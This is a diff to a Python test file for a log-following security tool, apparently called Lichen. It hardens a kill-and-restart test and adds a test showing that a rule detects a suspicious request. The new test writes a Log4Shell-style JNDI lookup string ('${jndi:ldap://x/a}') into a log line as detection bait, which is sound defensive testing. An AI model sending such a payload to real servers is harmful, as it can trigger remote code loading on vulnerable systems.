@@ -33,15 +33,19 @@ def test_killed_while_following_none_is_lost_and_none_doubled(seed: int, tmp_pat
     log, store, written = tmp_path / "access.log", tmp_path / "store", 400
     log.write_text(lines(0, written), encoding="utf-8")
     command = [LICHEN, "run", "--store", store, "--follow", log, "--port", "0"]
-    for _ in range(3):
+    for start in range(3):
         running = subprocess.Popen(command, start_new_session=True, **QUIET)
         time.sleep(1.5 + 2.5 * moment.random())
         with log.open("a", encoding="utf-8") as out:
             out.write(lines(written, 300))
         written += 300
         time.sleep(moment.random())
+        deadline = time.monotonic() + 60
+        while start == 2 and time.monotonic() < deadline and not event_ids(store):
+            time.sleep(0.2)  # however slow the machine: something was read before the last kill
         os.kill(running.pid, signal.SIGKILL)
         running.wait()
+    assert event_ids(store)
     ended = subprocess.run([*command[:-2], "--once"], capture_output=True, text=True, timeout=120)
     assert ended.returncode == 0, ended.stderr
     ids = event_ids(store)
@@ -64,6 +68,28 @@ def test_new_lines_reach_the_store_while_following(tmp_path: Path) -> None:
                 return
             time.sleep(1)
         pytest.fail("the new lines did not come in")
+    finally:
+        running.kill()
+        running.wait()
+
+
+def test_without_a_baseline_rules_reach_the_queue_while_following(tmp_path: Path) -> None:
+    log, store = tmp_path / "access.log", tmp_path / "store"
+    log.write_text(lines(0, 40), encoding="utf-8")
+    command = [LICHEN, "run", "--store", store, "--follow", log, "--port", "0"]
+    running = subprocess.Popen(command, start_new_session=True, **QUIET)
+    try:
+        time.sleep(4)
+        with log.open("a", encoding="utf-8") as out:
+            out.write(LINE.format(host=3, second=59, number=1).replace("/api/orders/1", "/?q=${jndi:ldap://x/a}"))
+        deadline = time.monotonic() + 100
+        while time.monotonic() < deadline:
+            if (store / "records.sqlite").exists():
+                with Store(store) as opened:
+                    if any(line.detector.startswith("rule:") for b in opened.records.beliefs() for line in b.ledger):
+                        return
+            time.sleep(1)
+        pytest.fail("the rule's hit was never believed")
     finally:
         running.kill()
         running.wait()
